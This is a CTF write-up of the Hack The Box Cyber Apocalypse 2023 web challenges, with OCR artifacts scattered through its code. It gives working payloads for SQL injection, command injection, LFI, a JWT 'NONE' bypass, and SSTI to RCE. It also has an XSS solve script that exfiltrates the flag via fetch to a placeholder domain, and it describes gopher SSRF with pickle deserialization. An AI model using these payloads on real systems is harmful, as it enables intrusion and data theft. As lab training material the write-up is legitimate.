CA 2023 Web Challenges

23 March 2023 #CTF #HTB #CA-2023 #chall #web

Cyber Apocalypse 2023

Trapped Source [very easy]

We need to enter a PIN to get the flag:

lock page

If we take a look at the source of the page, we can find the correct PIN:

pin in source code

Now we can enter it and view the flag:


View the source again to copy it to the clipboard.Drobots [very easy]

A login page stands before us:

login page

The login is vulnerable to a simple SQL injection. We can bypass it with "or 1=1 -- - or admin"-- - to get the flag:

flag after login

Gunhead [very easy]

Here we can access a command line style interface:

gunhead shellThe source code for the web app is provided. The function that handles the /ping command uses shell_exec with our input:

public function getOutput() {
    # Do I need to sanitize user input before passing it to shell_exec?
    return shell_exec('ping -c 3 '.$this->ip);

It's not sanitized in any way so we can exploit it:

get flag

The payload is /ping; cat /flag.txt.

Passman [easy]

This is a nodejs password manager application. We can create an account, add passwords, etc. We can also update a password. This is the implementation:

async updatePassword(username, password) {
    return new Promise(async (resolve, reject) => {
        let stmt = `UPDATE users SET password = ? WHERE username = ?`;
            (err, _) => {

It doesn't check if we actually know the password before updating it, meaning we can update the password of any user.

The app is using GraphQL that acts as an intermediate between the app and the database. To update the admin's password to 'hehexd' send this query to the grapql endpoint (/graphql):

update admin passwordNow we can login as admin and get the flag:

admin password

Orbital [easy]

This is a Flask application. Here is the function that handles login requests:

def login(username, password):
    # I don't think it's not possible to bypass login because I'm verifying the password later.
    user = query(f'SELECT username, password FROM users WHERE username = "{username}"', one=True)

    if user:
        passwordCheck = passwordVerify(user['password'], password)if passwordCheck:
            token = createJWT(user['username'])
            return token
        return False

It is putting raw user input inside the SQL query so there is an SQL injection. However it's not as easy as " or 1=1 -- - because the password is checked later.

There are a few ways to exploit this but this is how i did it:

{"username":"doesnotexist\" UNION SELECT 'admin', '5f4dcc3b5aa765d61d8327deb882cf99'-- -","password":"password"}

In the username field, we are using a UNION query to return the data we want into the user variable (which is the username 'admin' and the md5 hash of the word 'password'). And in the password field we have the password 'password' which will match with the md5 hash contained in the user object.

Once logged in, we can query the /export endpoint which has a LFI (directory traversal) vulnerability:@api.route('/export', methods=['POST'])
def exportFile():
    if not request.is_json:
        return response('Invalid JSON!'), 400

    data = request.get_json()
    communicationName = data.get('name', '')

        # Everyone is saying I should escape specific characters in the filename. I don't know why.
        return send_file(f'/communications/{communicationName}', as_attachment=True)
        return response('Unable to retrieve the communication'), 400

For some reason the flag is called /signal_sleuth_firmware, but whatever:

LFI to get the flag

Didactic Octo Paddles [medium]

This is a nodejs web app using the express framework.

The /admin endpoint is protected by this middleware:

if (decoded.header.alg == 'none') {return res.redirect("/login");
} else if (decoded.header.alg == "HS256") {
    const user = jwt.verify(sessionCookie, tokenKey, {
        algorithms: [decoded.header.alg],
    if (
        !(await db.Users.findOne({
            where: { id:, username: "admin" },
    ){
        return res.status(403).send("You are not an admin");
} else {
    const user = jwt.verify(sessionCookie, null, {
        algorithms: [decoded.header.alg],
    if (
        !(await db.Users.findOne({
            where: { id:, username: "admin" },
    ) {
        return res
            .send({ message: "You are not an admin" });In the else branch, the verify function is called with a null secret key. This would allow us to specify the none algorithm, thus allowing us to become the admin.

However the none algo is rejected in the first if. Fear not, we can use NONE or None, etc to skip this condition and go straight in the else.

This will be the JWT that will grant us admin access:

     {"alg":"NONE","typ":"JWT"}    .  {"id":1} .

The admin page just displays all usernames:

admin page

router.get("/admin", AdminMiddleware, async (req, res) => {
    try {
        const users = await db.Users.findAll();
        const usernames = => user.username);

        res.render("admin", {
            users: jsrender.templates(`${usernames}`).render(),
    } catch (error) {
        res.status(500).send("Something went wrong!");

Since the template is rendred server side, we can use a SSTI payload to get code execution:{{:"pwnd"{},"return global.process.mainModule.constructor._load('child_process').execSync('cat/flag.txt').toString()")()}}

After registering a new username with this payload, and access the admin page again, it gets executed:


SpyBug [medium]

This is a nodejs application using express.

The flag is displayed in the /panel page (only if you are admin):

router.get("/panel", authUser, async (req, res) => {
  res.render("panel", {
      req.session.username === "admin"
        ? process.env.FLAG
        : req.session.username,
    agents: await getAgents(),
    recordings: await getRecordings(),

The admin is a bot which visits the page every minute:

exports.visitPanel = async () => {
  try {
    const browser = await puppeteer.launch(browserOptions);
    let context = await browser.createIncognitoBrowserContext();let page = await context.newPage();

    await page.goto("" + process.env.API_PORT, {
      waitUntil: "networkidle2",
      timeout: 5000,

    await page.type("#username", "admin");
    await page.type("#password", process.env.ADMIN_SECRET);

    await page.waitForTimeout(5000);
    await browser.close();
  } catch (e) {

The goal is clear: use a client-side exploit like XSS to get the flag when the admin visits the page.

We can register an agent by going to /agents/register:

register agent

This gives us the id and token to use to update the agent's details. These detailsget displayed in the panel which the admin visits.

curl -s 'http://localhost:1337/agents/details/<id>/<token>' -d 'hostname=asdf&platform=asdf&arch=<h1>TEST</h1>'

We can put HTML tags in these details:


I used the provided docker image, that's why i have access to the admin panel.

However we have a problem: the Content Security Policy (CSP) prevents us from executing inline javascript, we can't just put <script> in here and win.

Content-Security-Policy: script-src 'self'; frame-ancestors 'none'; object-src 'none'; base-uri 'none';

script-src is set to 'self' meaning we can use scripts hosted locally, on the server.

Luckily, there is an upload endpoint:async (req, res) => {
    if (!req.file) return res.sendStatus(400);

    const filepath = path.join("./uploads/", req.file.filename);
    const buffer = fs.readFileSync(filepath).toString("hex");

    // check wav file format magic bytes
    if (!buffer.match(/52494646[a-z0-9]{8}57415645/g)) {
      return res.sendStatus(400);

    await createRecording(req.params.identifier, req.file.filename);

The filename has to end with .wav and have the magic bytes of the wav file format. To make it valid javascript we can use RIFF=1//WAVE.

All checks have been satisfied, so the file content can actually be javascript code.

Since the filename of the uploaded file is returned in the response, we can put it in the XSS payload to execute it.Solve script:


import requests
import sys

target = sys.argv[1]
if not target.startswith('http://'):
    target = 'http://' + target
if not target.endswith('/'):
    target = target + '/'

payload = """RIFF=1//WAVE
flag = document.querySelector('h2').textContent.split(' ')[2];
fetch('<your exfil domain>?flag=' + flag);with requests.Session() as s:
    # register agent
    r = s.get(target + 'agents/register')
    id = r.json()['identifier']
    token = r.json()['token']
    print('[+] agent registered')

    # upload javascript payload as wav file
    recording = { 'recording': ('xss.wav', payload, 'audio/wave') }
    r = + f'agents/upload/{id}/{token}', files=recording)
    filename = r.textprint('\n[+] file uploaded')

    # update agent's details to include XSS payload that will
    # load the wav (javascript) file we just uploaded
    data = {
        'hostname': 'localhost',
        'platform': 'linux',
        'arch': f'64-bit<script src="./uploads/{filename}"></script>'
    r = + f'agents/details/{id}/{token}', data=data)
    print('\n[+] updated details')

TrapTrack [hard]

This time we have a Flask application.

We can login with admin:admin (found in the source code). From here we can add a 'Trap Track' which is a URLthat will be requested.


Since we control the full URL, there is an SSRF vulnerability.

Going through the source code, we can see that redis is being used to keep track of the jobs (URLs to request).

def get_job_queue(job_id):
    data =current_app.redis.hget(env('REDIS_JOBS'), job_id)
    if data:
        return pickle.loads(base64.b64decode(data))

    return None

The jobs are stored in a serialized format inside redis.

If we can control what gets passed to pickle.loads, we can get arbitrary code execution and read the flag.

But for that we need to interact with redis. This is where the SSRF comes in handy. The worker uses the PyCurl module to perform the requests. PyCurl supports many protocols, not just HTTP. One of these protocols is gopher, which we will use to smuggle a redis command.

The redis command will just add a value to the 'jobs' key. Since the 'jobs' key is a hash (redis key type), the value will be a key (the id of the job) and a base64 encoded python serialized object.We can then trigger the deserialization by hitting the /api/tracks/<id>/status endpoint.

Solve script:


import requests
import sys
from base64 import b64encode
import pickle
import time
import os

